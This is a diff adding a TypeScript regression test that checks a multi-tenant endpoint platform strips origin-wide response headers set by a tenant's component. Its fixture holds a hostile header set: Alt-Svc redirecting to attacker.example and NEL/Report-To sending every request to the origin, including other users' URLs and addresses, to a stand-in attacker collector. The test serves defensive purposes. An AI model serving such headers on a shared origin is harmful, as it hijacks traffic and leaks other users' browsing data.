@@ -1,0 +1,46 @@
+import { client, createUser } from './support/accounts';
+import { eventually, startSystem, System } from './support/system';
+
+/**
+ * A tenant's endpoint answers from the origin the dashboard and every other tenant's endpoint share.
+ * Headers that act on the whole origin (host) rather than on the one answer were relayed as the
+ * component set them: HSTS for the host and its subdomains, an alternative service for every later
+ * request to the host, and Network Error Logging, with which the browser reports every request to the
+ * origin — other users' dashboard and endpoint URLs, their addresses and timings — to the tenant's
+ * collector. They are dropped now, like Service-Worker-Allowed and Clear-Site-Data; per-answer headers stay.
+ */
+const ORIGIN_WIDE = {
+  'Strict-Transport-Security': 'max-age=31536000; includeSubDomains',
+  'Alt-Svc': 'h2="attacker.example:443"; ma=2592000',
+  NEL: '{"report_to":"grab","max_age":31536000,"include_subdomains":true,"success_fraction":1.0}',
+  'Report-To': '{"group":"grab","max_age":31536000,"endpoints":[{"url":"https://attacker.example/nel"}],"include_subdomains":true}',
+  'Accept-CH': 'Sec-CH-UA-Full-Version-List, Sec-CH-UA-Platform-Version',
+  'Critical-CH': 'Sec-CH-UA-Full-Version-List',
+  'Origin-Agent-Cluster': '?0',
+};
+const SOURCE = `module.exports = { name: "Headers", version: "1", props: { http: { type: "$.interface.http", customResponse: true } },
+  async run() { this.http.respond({ status: 200, headers: Object.assign(${JSON.stringify(ORIGIN_WIDE)}, { "X-Own": "kept", "Cache-Control": "max-age=5" }), body: "hi" }); } };`;
+
+describe("headers of a tenant's endpoint that act on the whole origin", () => {
+  let system: System;
+  beforeAll(async () => {
+    system = await startSystem({ HTTP_RATE_PER_SEC: '0' });
+  });
+  afterAll(async () => {
+    await system?.stop();
+  });
+
+  it('are dropped; the answer keeps its own', async () => {
+    const user = createUser(system);
+    const res = await client(system, user.apiKey).post('/sources', { component_code: SOURCE });
+    expect(res.status).toBe(200);
+    const url = res.body.data.configured_props.http.endpoint_url as string;
+    const answer = await eventually(async () => {
+      const r = await fetch(url, { method: 'POST' });
+      return r.status === 200 ? r : undefined;
+    }, { what: 'the endpoint', timeoutMs: 30_000 });
+    expect(await answer.text()).toBe('hi');
+    for (const name of Object.keys(ORIGIN_WIDE)) expect([name, answer.headers.get(name)]).toEqual([name, null]);
+    expect(answer.headers.get('x-own')).toBe('kept');
+  });
+});
